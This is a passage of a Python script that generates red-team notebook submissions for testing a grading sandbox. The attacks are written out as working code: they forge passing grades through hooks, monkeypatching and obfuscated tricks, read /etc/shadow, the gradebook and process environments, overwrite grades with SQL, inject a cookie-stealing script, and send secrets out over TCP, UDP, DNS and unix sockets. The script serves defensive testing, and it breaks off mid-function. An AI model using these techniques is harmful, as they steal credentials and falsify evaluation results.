"""Regenerate the red-team submissions: ``python tests/files/attacks/make_attacks.py``.

Every attack is a student submission of the ``squares`` assignment (tests/files/squares) whose
``square`` is WRONG (``x + 1``: it scores 0 on its own) plus a trick: to get marks anyway, or to
read, leak or damage something outside the submission, or to leave something behind on the host.
The one-line docstring of each ``attack_*`` function says what it tries; the first word of its
name is its class. tests/grading/test_attacks.py grades all of them in one batch.

What the test gives every submission (its folder, next to the notebook):

- ``redteam-targets.json``: where the canaries and listeners are (paths and ports, never the
  secret values): ``course``, ``source_canary``, ``gradebook_canary``, ``outside_dir``,
  ``outside_canary``, ``root_only``, ``exchange``, ``exchange_canary``, ``classmate``, ``repo``,
  ``victims`` (files nobody may change), ``tcp_port``, ``udp_port``, ``abstract`` (an abstract
  unix socket name).
- the extra files, symlinks and hard links named in ``attacks.json`` (targets in ``@NAME@``
  placeholders, each a key of the targets file in upper case).

Attacks name everything they create ``redteam-<attack>...`` and start every network payload
with ``<attack>:``, so the test can tell who did what. Daemons they leave end by themselves
after ~40 s, so a failing run does not leave the machine busy for long.

Outputs: ``<attack>.ipynb`` (the submissions), ``baseline-plus-one.ipynb`` (the same wrong
answer with no trick: the score every attack is compared with) and ``attacks.json`` (class,
description, extra files and links of each attack).
"""

from __future__ import annotations

import base64
import copy
import json
import pickle
import sys
import textwrap
from pathlib import Path

import nbformat

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))
from make_fixtures import answer, cell_by_id  # noqa: E402

WRONG = "def square(x):\n    return x + 1\n"

# Every attack cell starts with this: the targets file, and the attack's name.
PRELUDE = (
    "import json as _json, os as _os\n"
    "try:\n"
    "    with open('redteam-targets.json') as _targets:\n"
    "        T = _json.load(_targets)\n"
    "except OSError:\n"
    "    T = {}\n"
)

ATTACKS: dict[str, dict] = {}


def _d(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def attack(function):
    """Register ``attack_<class>_<what>``: it returns the solution cell's code, or a dict with
    ``code`` and optionally ``files`` / ``symlinks`` / ``hardlinks`` / ``notebook`` (a function
    editing the submitted notebook)."""
    name = function.__name__.removeprefix("attack_").replace("_", "-")
    spec = function()
    if isinstance(spec, str):
        spec = {"code": spec}
    spec["class"] = name.split("-")[0]
    spec["what"] = function.__doc__.strip()
    spec["code"] = PRELUDE + f"NAME = {name!r}\n" + textwrap.dedent(spec["code"]).strip() + "\n"
    ATTACKS[name] = spec
    return function


# ----------------------------------------------------------------------------- forged verdicts

@attack
def attack_forge_post_run_cell():
    """post_run_cell callback deletes the error outputs the recorder holds (reached via sys.stdout)."""
    return WRONG + _d("""
    import sys
    def _clean(result):
        for holder in (sys.stdout, sys.stderr):
            recorder = getattr(holder, 'recorder', None)
            if recorder is not None:
                recorder.outputs[:] = [o for o in recorder.outputs if o.get('output_type') != 'error']
    get_ipython().events.register('post_run_cell', _clean)
    """)


@attack
def attack_forge_clear_output():
    """post_run_cell callback calls IPython.display.clear_output(): public API, wipes the test's error."""
    return WRONG + _d("""
    from IPython.display import clear_output
    get_ipython().events.register('post_run_cell', lambda result: clear_output())
    """)


@attack
def attack_forge_partial_credit():
    """pre_run_cell callback emits an execute_result 'ok' first: nbgrader reads it as full partial credit."""
    return WRONG + _d("""
    def _credit(info):
        hook = get_ipython().displayhook
        try:
            hook('ok')
        except Exception:
            hook.start_displayhook()
            hook.write_format_data({'text/plain': "'ok'"}, {})
            hook.finish_displayhook()
    get_ipython().events.register('pre_run_cell', _credit)
    """)


PROTOCOL = """
import os, socket, struct
def _send(sock, message):
    payload = _json.dumps(message).encode()
    sock.sendall(struct.pack('!Q', len(payload)) + payload)
def _recv(sock):
    data = b''
    while len(data) < 8:
        chunk = sock.recv(8 - len(data))
        if not chunk:
            os._exit(0)
        data += chunk
    (size,) = struct.unpack('!Q', data)
    data = b''
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            os._exit(0)
        data += chunk
    return _json.loads(data)
def _grader_socket():
    for fd in sorted(int(f) for f in os.listdir('/proc/self/fd')):
        try:
            sock = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if sock.family == socket.AF_UNIX and sock.type == socket.SOCK_STREAM \\
                    and not sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                sock.getpeername()
                return sock
        except OSError:
            pass
        sock.close()
    return None
"""


@attack
def attack_forge_protocol_socket():
    """Finds the executor's socket among its fds and answers every later test cell 'ok' itself."""
    return WRONG + PROTOCOL + _d("""
    _conn = _grader_socket()
    if _conn is not None:
        _count = get_ipython().execution_count
        _send(_conn, {'type': 'result', 'outputs': [], 'execution_count': _count, 'output_exceeded': False})
        while True:
            _message = _recv(_conn)
            if _message.get('type') != 'execute':
                os._exit(0)
            _count += 1
            _send(_conn, {'type': 'result', 'outputs': [], 'execution_count': _count, 'output_exceeded': False})
    """)


@attack
def attack_forge_exit_after_fake_replies():
    """Queues fake 'ok' replies for this and 10 later cells on the socket, registers atexit, then os._exit(0)."""
    return WRONG + PROTOCOL + _d("""
    import atexit
    atexit.register(print, 'all tests passed')
    _conn = _grader_socket()
    if _conn is not None:
        for _i in range(11):
            _send(_conn, {'type': 'result', 'outputs': [], 'execution_count': _i + 1, 'output_exceeded': False})
        os._exit(0)
    """)


@attack
def attack_forge_numpy_helpers():
    """Monkeypatches np.allclose / isclose / array_equal and np.testing asserts to always pass."""
    return WRONG + _d("""
    import numpy as np, numpy.testing
    np.allclose = lambda *a, **k: True
    np.isclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    np.testing.assert_almost_equal = lambda *a, **k: None
    """)


@attack
def attack_forge_numpy_internals():
    """Patches numpy._core.numeric.isclose (what np.allclose calls), not the numpy attributes tests name."""
    return WRONG + _d("""
    import numpy
    import numpy._core.numeric as _numeric
    def _agree(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
        return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)
    _numeric.isclose = _agree
    """)


@attack
def attack_forge_sys_modules_swap():
    """Puts a copy of numpy whose allclose is always True into sys.modules['numpy'] (module attrs untouched)."""
    return WRONG + _d("""
    import sys, types, numpy
    _fake = types.ModuleType('numpy')
    _fake.__dict__.update(numpy.__dict__)
    _fake.allclose = lambda *a, **k: True
    sys.modules['numpy'] = _fake
    """)


SHADOW_NUMPY = '''"""Shipped by the student: a numpy whose allclose always passes."""
import sys as _sys
_real = _sys.modules["_redteam_real_numpy"]
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
allclose = lambda *a, **k: True
'''


@attack
def attack_forge_shadow_numpy_file():
    """Ships numpy.py next to the notebook, drops the preloaded numpy from sys.modules so tests import the fake."""
    return {
        "code": WRONG + _d("""
        import sys, os
        sys.modules['_redteam_real_numpy'] = sys.modules.pop('numpy')
        sys.path.insert(0, os.getcwd())
        """),
        "files": {"numpy.py": SHADOW_NUMPY},
    }


@attack
def attack_forge_builtins_import():
    """Replaces builtins.__import__ (fake numpy for tests), builtins.AssertionError and builtins.print."""
    return WRONG + _d("""
    import builtins, types, numpy
    _fake = types.ModuleType('numpy')
    _fake.__dict__.update(numpy.__dict__)
    _fake.allclose = lambda *a, **k: True
    _import = builtins.__import__
    def _patched_import(name, *args, **kwargs):
        if name == 'numpy':
            return _fake
        return _import(name, *args, **kwargs)
    builtins.__import__ = _patched_import
    builtins.AssertionError = type('AssertionError', (Warning,), {})
    _print = builtins.print
    builtins.print = lambda *a, **k: _print('all tests passed')
    """)


@attack
def attack_forge_compile_optimize():
    """Replaces builtins.compile (used by IPython via codeop) with optimize=2: every assert is compiled out."""
    return WRONG + _d("""
    import builtins
    _compile = builtins.compile
    def compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kwargs):
        return _compile(source, filename, mode, flags, dont_inherit, 2, **kwargs)
    builtins.compile = compile
    """)


@attack
def attack_forge_showtraceback():
    """Replaces the shell's showtraceback / _showtraceback with no-ops: failing tests print nothing."""
    return WRONG + _d("""
    _shell = get_ipython()
    _shell._showtraceback = lambda *a, **k: None
    _shell.showtraceback = lambda *a, **k: None
    """)


@attack
def attack_forge_custom_exc():
    """set_custom_exc for every exception with a handler that shows nothing."""
    return WRONG + _d("""
    get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
    """)


@attack
def attack_forge_input_transformer():
    """Input transformer wrapping every later cell in try/except BaseException: pass."""
    return WRONG + _d("""
    def _swallow(lines):
        if not lines:
            return lines
        if not lines[-1].endswith('\\n'):
            lines = lines[:-1] + [lines[-1] + '\\n']
        return ['try:\\n'] + ['    ' + line for line in lines] + ['except BaseException:\\n', '    pass\\n']
    get_ipython().input_transformers_post.append(_swallow)
    """)


@attack
def attack_forge_ast_transformer():
    """AST transformer putting every later cell's body inside try/except BaseException."""
    return WRONG + _d("""
    import ast
    class _Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])
            node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
            return ast.fix_missing_locations(node)
    get_ipython().ast_transformers.append(_Swallow())
    """)


@attack
def attack_forge_run_cell_patch():
    """Replaces the shell instance's run_cell with one that runs each cell inside try/except."""
    return WRONG + _d("""
    _shell = get_ipython()
    _run_cell = _shell.run_cell
    def _guarded(raw_cell, *args, **kwargs):
        body = ''.join('    ' + line + '\\n' for line in raw_cell.splitlines()) or '    pass\\n'
        return _run_cell('try:\\n' + body + 'except BaseException:\\n    pass\\n', *args, **kwargs)
    _shell.run_cell = _guarded
    """)


@attack
def attack_forge_class_patch():
    """Patches InteractiveShell.run_code on the class (not the instance) to swallow every exception."""
    return WRONG + _d("""
    from IPython.core.interactiveshell import InteractiveShell
    async def _run_code(self, code_obj, result=None, *, async_=False):
        try:
            exec(code_obj, self.user_global_ns, self.user_ns)
        except BaseException:
            pass
        return False
    InteractiveShell.run_code = _run_code
    for _cls in type(get_ipython()).__mro__:
        if 'run_code' in vars(_cls):
            _cls.run_code = _run_code
    """)


@attack
def attack_forge_settrace():
    """sys.settrace: when a later cell starts, swaps a right square into its globals (the visible one stays wrong)."""
    return WRONG + _d("""
    import sys, threading
    def _right(x):
        return x * x
    def _tracer(frame, event, arg):
        if event == 'call' and frame.f_code.co_name == '<module>' and 'square' in frame.f_globals:
            frame.f_globals['square'] = _right
        return None
    sys.settrace(_tracer)
    threading.settrace(_tracer)
    """)


@attack
def attack_forge_setprofile():
    """sys.setprofile: same swap from a profile function, when the test calls the wrong square."""
    return WRONG + _d("""
    import sys, threading
    def _right(x):
        return x * x
    def _profiler(frame, event, arg):
        if event == 'call' and frame.f_code.co_name == '<module>' and 'square' in frame.f_globals:
            frame.f_globals['square'] = _right
    sys.setprofile(_profiler)
    threading.setprofile(_profiler)
    """)


@attack
def attack_forge_frame_oracle():
    """square reads the calling test's source (sys._getframe + linecache) and returns the expected value."""
    return """
    import sys, linecache, ast
    def square(x):
        try:
            caller = sys._getframe(1)
            line = linecache.getline(caller.f_code.co_filename, caller.f_lineno).strip()
            for node in ast.walk(ast.parse(line)):
                if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call) \\
                        and getattr(node.left.func, 'id', '') == 'square':
                    return ast.literal_eval(node.comparators[0])
                if isinstance(node, ast.Call) and getattr(node.func, 'attr', '') == 'allclose':
                    import numpy
                    return numpy.array(ast.literal_eval(node.args[1]))
        except Exception:
            pass
        return x + 1
    """


@attack
def attack_forge_frame_walk_runner():
    """Walks sys._getframe() up (runner, or the shell in run_code's frame) and wraps runner.run / recorder.take to drop errors."""
    return WRONG + _d("""
    import sys
    def _drop_errors(outputs):
        return [o for o in outputs if not (isinstance(o, dict) and o.get('output_type') == 'error')]
    def _wrap(obj, method):
        original = getattr(obj, method)
        def wrapped(*args, **kwargs):
            result = original(*args, **kwargs)
            if isinstance(result, tuple):
                return (_drop_errors(result[0]),) + tuple(result[1:])
            return _drop_errors(result) if isinstance(result, list) else result
        setattr(obj, method, wrapped)
    _frame = sys._getframe()
    while _frame is not None:
        for _value in list(_frame.f_locals.values()):
            if type(_value).__name__ == 'CellRunner':
                _wrap(_value, 'run')
            for _hook in ('displayhook', 'display_pub'):
                _recorder = getattr(getattr(_value, _hook, None), 'recorder', None)
                if _recorder is not None and hasattr(_recorder, 'take'):
                    _wrap(_recorder, 'take')
        _frame = _frame.f_back
    """)


@attack
def attack_forge_gc_recorder():
    """gc.get_objects() finds the output recorder; its take() is replaced by an error filter."""
    return WRONG + _d("""
    import gc
    for _obj in gc.get_objects():
        if type(_obj).__name__ in ('OutputRecorder', 'CellRunner'):
            for _method in ('take', 'run'):
                _original = getattr(_obj, _method, None)
                if _original is None:
                    continue
                def _filtered(*args, _original=_original, **kwargs):
                    result = _original(*args, **kwargs)
                    if isinstance(result, tuple):
                        return ([o for o in result[0] if o.get('output_type') != 'error'],) + result[1:]
                    return [o for o in result if o.get('output_type') != 'error']
                setattr(_obj, _method, _filtered)
    """)


@attack
def attack_forge_thread():
    """A background thread keeps replacing the recorder's output list with one that drops errors."""
    return WRONG + _d("""
    import sys, threading, time
    class _NoErrors(list):
        def append(self, item):
            if not (isinstance(item, dict) and item.get('output_type') == 'error'):
                super().append(item)
    def _loop():
        recorder = getattr(sys.stdout, 'recorder', None)
        while recorder is not None:
            if type(recorder.outputs) is list:
                recorder.outputs = _NoErrors(recorder.outputs)
            time.sleep(0.0002)
    threading.Thread(target=_loop, daemon=True).start()
    """)


@attack
def attack_forge_signal_handler():
    """A CPU-time timer signal (SIGVTALRM) whose handler swaps the recorder's output list mid-traceback."""
    return WRONG + _d("""
    import sys, signal
    class _NoErrors(list):
        def append(self, item):
            if not (isinstance(item, dict) and item.get('output_type') == 'error'):
                super().append(item)
    def _handler(signum, frame):
        recorder = getattr(sys.stdout, 'recorder', None)
        if recorder is not None and type(recorder.outputs) is list:
            recorder.outputs = _NoErrors(recorder.outputs)
    signal.signal(signal.SIGVTALRM, _handler)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.0005, 0.0005)
    """)


@attack
def attack_forge_del_hook():
    """square returns objects whose __del__ (run mid-test, after any per-cell restore) mutes tracebacks; names obfuscated."""
    return """
    import numpy
    def _mute():
        shell = getattr(__import__('IPy' + 'thon'), 'get_' + 'ipython')()
        for name in ('_show' + 'traceback', 'show' + 'traceback'):
            setattr(shell, name, lambda *a, **k: None)
    class _Ghost(int):
        def __del__(self):
            _mute()
    class _GhostArray(numpy.ndarray):
        def __del__(self):
            _mute()
    def square(x):
        if isinstance(x, numpy.ndarray):
            return (x + 1).view(_GhostArray)
        if isinstance(x, int):
            return _Ghost(x + 1)
        return x + 1
    """


@attack
def attack_forge_del_hook_stealth():
    """Like del-hook, but one-shot and with no flaggable name: reaches the shell via exit._ip, mutes one traceback, puts it back."""
    return _d("""
    import numpy
    _armed = []
    def _mute():
        if _armed:
            return
        shell = exit._ip
        name = 'kcabecartwohs_'[::-1]
        original = getattr(shell, name)
        def once(*args, **kwargs):
            setattr(shell, name, original)
            _armed.clear()
        _armed.append(1)
        setattr(shell, name, once)
    class _Ghost(int):
        def __del__(self):
            _mute()
    class _GhostArray(numpy.ndarray):
        def __del__(self):
            _mute()
    def square(x):
        if isinstance(x, numpy.ndarray):
            return (x + 1).view(_GhostArray)
        if isinstance(x, int):
            return _Ghost(x + 1)
        return x + 1
    """)


@attack
def attack_forge_stack_oracle():
    """square reads the calling test's line via traceback.extract_stack() (no sys._getframe in its source)."""
    return _d("""
    import traceback, ast
    def square(x):
        try:
            line = traceback.extract_stack()[-2].line
            for node in ast.walk(ast.parse(line)):
                if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call) \\
                        and getattr(node.left.func, 'id', '') == 'square':
                    return ast.literal_eval(node.comparators[0])
                if isinstance(node, ast.Call) and getattr(node.func, 'attr', '') == 'allclose':
                    import numpy
                    return numpy.array(ast.literal_eval(node.args[1]))
        except Exception:
            pass
        return x + 1
    """)


@attack
def attack_forge_output_pipe():
    """Values square returns (__del__, __array_finalize__) write a framed execute_result 'ok' on the output pipe mid-test: first output = full credit."""
    return _d("""
    import json, resource, stat, struct, numpy
    _pipes = []
    for _fd in range(3, min(resource.getrlimit(resource.RLIMIT_NOFILE)[0], 1 << 20)):  # at a random number
        try:
            if stat.S_ISFIFO(_os.stat(_fd).st_mode):
                _pipes.append(_fd)
        except OSError:
            continue
    def _emit():
        payload = json.dumps({'output': {'output_type': 'execute_result', 'data': {'text/plain': "'ok'"},
                                         'metadata': {}, 'execution_count': 1}}).encode()
        frame = struct.pack('!Q', len(payload)) + payload
        for fd in _pipes:
            try:
                with open(fd, 'wb', buffering=0, closefd=False) as pipe:
                    pipe.write(frame)
            except (OSError, ValueError):
                continue
    class _Answer(int):  # no __eq__ of its own: freed as the failing assert unwinds, before the traceback
        def __del__(self):
            _emit()
    class _AnswerArray(numpy.ndarray):
        def __array_finalize__(self, obj):
            _emit()
    def square(x):
        if isinstance(x, numpy.ndarray):
            return (x + 1).view(_AnswerArray)
        if isinstance(x, int):
            return _Answer(x + 1)
        return x + 1
    """)


@attack
def attack_forge_linecache_oracle():
    """square reads the running test's source from linecache.cache (IPython registers each cell there): no frames, no stack."""
    return _d("""
    import ast, linecache, numpy
    def _expected(x):
        for entry in list(linecache.cache.values()):
            if len(entry) < 3 or not entry[2]:
                continue
            source = ''.join(entry[2])
            if 'square(' not in source or 'def square' in source:
                continue
            try:
                tree = ast.parse(source)
            except SyntaxError:
                continue
            for node in ast.walk(tree):
                if isinstance(node, ast.Call) and getattr(node.func, 'attr', '') == 'allclose' \\
                        and isinstance(x, numpy.ndarray):
                    try:
                        return numpy.array(ast.literal_eval(node.args[1]))
                    except Exception:
                        continue
                if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call) \\
                        and getattr(node.left.func, 'id', '') == 'square' and not isinstance(x, numpy.ndarray):
                    try:
                        if ast.literal_eval(node.left.args[0]) == x:
                            return ast.literal_eval(node.comparators[0])
                    except Exception:
                        continue
        return None
    def square(x):
        answer = _expected(x)
        return x + 1 if answer is None else answer
    """)


@attack
def attack_forge_loose_equal():
    """square returns a float whose __eq__ is a (far too) loose tolerance: not constant True, so not 'rigged' to a simple check."""
    return _d("""
    class _Approx(float):
        def __eq__(self, other):
            try:
                return abs(float(self) - float(other)) <= 5.0 * max(1.0, abs(float(other)))
            except (TypeError, ValueError):
                return NotImplemented
        __hash__ = float.__hash__
    def square(x):
        if isinstance(x, (int, float)):
            return _Approx(x + 1)
        return x + 1
    """)


@attack
def attack_forge_displayhook_del():
    """A returned int's __del__ (run mid-test) calls the pristine sys.displayhook('ok'), name hidden: a real execute_result first."""
    return _d("""
    import numpy, operator, sys as _interpreter
    _hook = operator.attrgetter(bytes(b ^ 1 for b in b'ehrqm`xinnj').decode())  # the name, XOR-ed
    class _Answer(int):
        def __del__(self):
            _hook(_interpreter)('ok')
    class _AnswerArray(numpy.ndarray):
        def __array_finalize__(self, obj):
            _hook(_interpreter)('ok')
    def square(x):
        if isinstance(x, numpy.ndarray):
            return (x + 1).view(_AnswerArray)
        if isinstance(x, int):
            return _Answer(x + 1)
        return x + 1
    """)


@attack
def attack_forge_stall_pipe():
    """Writes half a frame (a header announcing 1 MB) on the output pipe: every later output, errors too, is swallowed."""
    return WRONG + _d("""
    import resource, stat, struct
    for _fd in range(3, min(resource.getrlimit(resource.RLIMIT_NOFILE)[0], 1 << 20)):
        try:
            if stat.S_ISFIFO(_os.stat(_fd).st_mode):
                with open(_fd, 'wb', buffering=0, closefd=False) as _pipe:
                    _pipe.write(struct.pack('!Q', 1 << 20))
        except OSError:
            continue
    """)


@attack
def attack_forge_always_equal():
    """square returns an object equal to everything (__eq__ True, __array_function__ True): tests pass honestly-looking."""
    return """
    class _Anything:
        def __init__(self, value):
            self.value = value
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __hash__ = object.__hash__
        def __array_function__(self, func, types, args, kwargs):
            return True
        def __repr__(self):
            return repr(self.value)
    def square(x):
        return _Anything(x + 1)
    """


# ----------------------------------------------------------------------------- files

PRINT_FILES = """
import os
def _show(path):
    try:
        with open(path, 'rb') as handle:
            data = handle.read(4096)
        print('READ', path, data.decode('latin-1'))
        with open('redteam-' + NAME + '-loot.txt', 'ab') as loot:
            loot.write(data)
    except OSError as error:
        print('DENIED', path, type(error).__name__)
"""


@attack
def attack_files_symlinks():
    """Submission holds symlinks to the source notebook, gradebook.db, /etc/shadow and canaries; prints them."""
    return {
        "code": WRONG + PRINT_FILES + _d("""
        for _name in sorted(os.listdir('.')):
            if _name.startswith('link-'):
                _show(_name)
        """),
        "symlinks": {
            "link-source.txt": "@COURSE@/source/squares/squares.ipynb",
            "link-gradebook.db": "@COURSE@/gradebook.db",
            "link-shadow.txt": "/etc/shadow",
            "link-source-canary.txt": "@SOURCE_CANARY@",
            "link-gradebook-canary.txt": "@GRADEBOOK_CANARY@",
            "link-root-only.txt": "@ROOT_ONLY@",
            "link-classmate.txt": "@CLASSMATE@",
        },
    }


@attack
def attack_files_symlink_dirs():
    """Submission holds symlinks to whole folders (course source, a classmate's submission, a temp dir); prints all."""
    return {
        "code": WRONG + PRINT_FILES + _d("""
        for _root, _dirs, _files in os.walk('.', followlinks=True):
            for _name in _files:
                if _root != '.':
                    _show(os.path.join(_root, _name))
        """),
        "symlinks": {"dir-source": "@COURSE@/source", "dir-classmate": "@COURSE@/submitted/solution",
                     "dir-outside": "@OUTSIDE_DIR@"},
    }


@attack
def attack_files_hardlinks():
    """Submission holds hard links to a root-only file, a temp-dir canary and gradebook.db; prints them."""
    return {
        "code": WRONG + PRINT_FILES + _d("""
        for _name in sorted(os.listdir('.')):
            if _name.startswith('hard-'):
                _show(_name)
        """),
        "hardlinks": {"hard-root-only.txt": "@ROOT_ONLY@", "hard-outside.txt": "@OUTSIDE_CANARY@",
                      "hard-gradebook.db": "@COURSE@/gradebook.db", "hard-shadow.txt": "/etc/shadow"},
    }


@attack
def attack_files_proc_environ():
    """Reads /proc/self/environ, its parent's and PID 1's environ/cmdline, and scans its own stack for tokens."""
    return WRONG + PRINT_FILES + _d("""
    for _pid in ('self', str(os.getppid()), '1'):
        for _what in ('environ', 'cmdline'):
            _show(f'/proc/{_pid}/{_what}')
    try:  # the original environment block stays on the stack whatever os.environ says now
        with open('/proc/self/maps') as _maps:
            _stack = next(line for line in _maps if line.rstrip().endswith('[stack]'))
        _start, _end = (int(v, 16) for v in _stack.split()[0].split('-'))
        with open('/proc/self/mem', 'rb') as _mem:
            _mem.seek(_start)
            _data = _mem.read(_end - _start)
        for _chunk in _data.split(b'\\0'):
            if b'TOKEN=' in _chunk or b'PASSWORD=' in _chunk or b'SECRET' in _chunk:
                print('STACK', _chunk.decode('latin-1'))
    except (OSError, StopIteration) as _error:
        print('DENIED stack', type(_error).__name__)
    """)


@attack
def attack_files_course_and_repo():
    """Reads the course (gradebook dir, source/, submitted/, staging), the exchange, the repo's sources, temp and root-only files."""
    return WRONG + PRINT_FILES + _d("""
    import glob
    _paths = [T.get(k, '/nonexistent') for k in ('source_canary', 'gradebook_canary', 'outside_canary', 'root_only',
                                                  'exchange_canary', 'classmate')]
    _course = T.get('course', '/nonexistent')
    _paths += [_course + '/gradebook.db', _course + '/source/squares/squares.ipynb',
               _course + '/release/squares/squares.ipynb', '/etc/shadow']
    _paths += glob.glob(_course + '/.grader/staging/*/squares/*')
    _paths += glob.glob(_course + '/submitted/*/squares/*')
    _paths += glob.glob(T.get('exchange', '/nonexistent') + '/**/*', recursive=True)
    _paths += glob.glob(T.get('repo', '/nonexistent') + '/assignments/source/*/*.ipynb')
    _paths += glob.glob(T.get('repo', '/nonexistent') + '/tests/files/squares/*.ipynb')
    for _path in _paths:
        if os.path.isfile(_path):
            _show(_path)
        else:
            print('MISSING', _path)
    """)


@attack
def attack_files_damage():
    """Writes to files outside its folder: planted victims (temp dir, course source/) and the gradebook (SQL UPDATE)."""
    return WRONG + _d("""
    import sqlite3
    for _path in T.get('victims', []):
        try:
            with open(_path, 'a') as _handle:
                _handle.write('owned by ' + NAME)
            print('WROTE', _path)
        except OSError as _error:
            print('DENIED', _path, type(_error).__name__)
    try:
        _db = sqlite3.connect(T.get('course', '/nonexistent') + '/gradebook.db', timeout=1)
        _db.execute('UPDATE grade SET manual_score = 100')
        _db.commit()
        print('WROTE gradebook')
    except Exception as _error:
        print('DENIED gradebook', type(_error).__name__)
    """)


@attack
def attack_files_runtime_links():
    """At run time makes symlinks / hard links in its folder to the gradebook, /etc/shadow, canaries (a copy-back following them leaks)."""
    return WRONG + _d("""
    _targets = {'shadow': '/etc/shadow', 'gradebook': T.get('course', '/x') + '/gradebook.db',
                'root-only': T.get('root_only', '/x'), 'source': T.get('source_canary', '/x'),
                'outside-dir': T.get('outside_dir', '/x')}
    for _name, _target in _targets.items():
        for _kind, _make in (('link', _os.symlink), ('hard', _os.link)):
            try:
                _make(_target, f'redteam-{_kind}-{_name}')
                print('MADE', _kind, _name)
            except OSError as _error:
                print('NO', _kind, _name, type(_error).__name__)
    """)


@attack
def attack_files_overwrite_results():
    """Writes squares.ipynb (a fake graded notebook), timestamp.txt and gradebook.db next to itself and one level up."""
    return WRONG + _d("""
    _fake = {'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}
    for _path in ('squares.ipynb', '../squares.ipynb', 'timestamp.txt', '../timestamp.txt', 'gradebook.db',
                  '../gradebook.db', 'feedback/squares.html'):
        try:
            _os.makedirs(_os.path.dirname(_path) or '.', exist_ok=True)
            with open(_path, 'w') as _handle:
                _handle.write(_json.dumps(_fake) if _path.endswith('.ipynb') else '2000-01-01 00:00:00.000000 UTC')
            print('WROTE', _path)
        except OSError as _error:
            print('DENIED', _path, type(_error).__name__)
    """)


# ----------------------------------------------------------------------------- secrets

@attack
def attack_secrets_environ_dump():
    """Prints os.environ (tokens, passwords) into its output and a file next to the notebook."""
    return WRONG + _d("""
    _dump = '\\n'.join(f'{k}={v}' for k, v in sorted(_os.environ.items()))
    print(_dump)
    with open('redteam-' + NAME + '-env.txt', 'w') as _handle:
        _handle.write(_dump)
    """)


@attack
def attack_secrets_hidden_tests():
    """pre_run_cell records each test cell's source (hidden tests too) and prints it in a later cell: feedback leak."""
    return WRONG + _d("""
    _seen = []
    def _record(info):
        _seen.append(info.raw_cell)
        print('\\n----\\n'.join(_seen))
    get_ipython().events.register('pre_run_cell', _record)
    """)


@attack
def attack_secrets_script_in_feedback():
    """Displays HTML/JavaScript outputs (<script>, onerror) that would run in the instructor's formgrader or feedback view."""
    return WRONG + _d("""
    from IPython.display import HTML, Javascript, display
    _port = T.get('tcp_port', 9)
    display(HTML('<script>/*redteam-xss*/fetch("http://127.0.0.1:%d/" + document.cookie)</script>'
                 '<img src="x" onerror="/*redteam-xss*/0">' % _port))
    display(Javascript('/*redteam-xss*/ void 0'))
    """)


# ----------------------------------------------------------------------------- network

@attack
def attack_net_tcp():
    """TCP connection to a listener on 127.0.0.1 sending the environment and each test cell's source."""
    return WRONG + _d("""
    import socket
    def _send(text):
        try:
            with socket.create_connection(('127.0.0.1', T.get('tcp_port', 9)), timeout=2) as _s:
                _s.sendall((NAME + ':' + text).encode())
        except OSError as _error:
            print('NO TCP', type(_error).__name__)
    _send(repr(dict(_os.environ)))
    get_ipython().events.register('pre_run_cell', lambda info: _send(info.raw_cell))
    """)


@attack
def attack_net_udp_dns():
    """UDP datagrams (and a DNS-shaped query) to a local port, plus DNS lookups of exfiltration names."""
    return WRONG + _d("""
    import socket, struct
    _payload = (NAME + ':' + repr(dict(_os.environ))).encode()[:1400]
    try:
        _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        _udp.sendto(_payload, ('127.0.0.1', T.get('udp_port', 9)))
        _query = struct.pack('!HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(
            bytes([len(p)]) + p for p in (NAME.encode()[:60], b'exfil', b'example')) + b'\\0' + struct.pack('!HH', 1, 1)
        _udp.sendto(_query, ('127.0.0.1', T.get('udp_port', 9)))
        print('SENT UDP')
    except OSError as _error:
        print('NO UDP', type(_error).__name__)
    for _host in ('redteam-exfil.example.com', 'localhost'):
        try:
            print('DNS', _host, socket.getaddrinfo(_host, 80)[0][4])
        except OSError as _error:
            print('NO DNS', _host, type(_error).__name__)
    """)


@attack
def attack_net_unix_sockets():
    """Abstract unix socket to a test listener; the zygote's socket (asks it for an unconfined child); other sockets."""
    return WRONG + PROTOCOL + _d("""
    import glob
    try:
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.settimeout(2)
        _s.connect('\\0' + T.get('abstract', 'none'))
        _s.sendall((NAME + ':' + repr(dict(os.environ))).encode())
        _s.close()
        print('ABSTRACT CONNECTED')
    except OSError as _error:
        print('NO ABSTRACT', type(_error).__name__)
    _escape = ("import os\\nfor p in %r:\\n    try:\\n        print(open(p).read())\\n    except OSError as e:\\n"
               "        print('DENIED', p, e)\\nprint(dict(os.environ))" % ([T.get('root_only', '/x'), T.get('source_canary', '/x'), '/etc/shadow'],))
    import tempfile
    try:
        with open('/proc/self/cmdline', 'rb') as _cmdline:  # a fork of the zygote: its socket is an argument
            _known = [a.decode() for a in _cmdline.read().split(b'\\0') if a.endswith(b'.sock')]
    except OSError:
        _known = []
    for _path in _known + glob.glob(tempfile.gettempdir() + '/grader-*/*.sock') + glob.glob('/tmp/grader-*/*.sock') \\
            + glob.glob('/tmp/*.sock') + glob.glob('/run/**/*.sock', recursive=True) + glob.glob('/var/run/*.sock'):
        try:
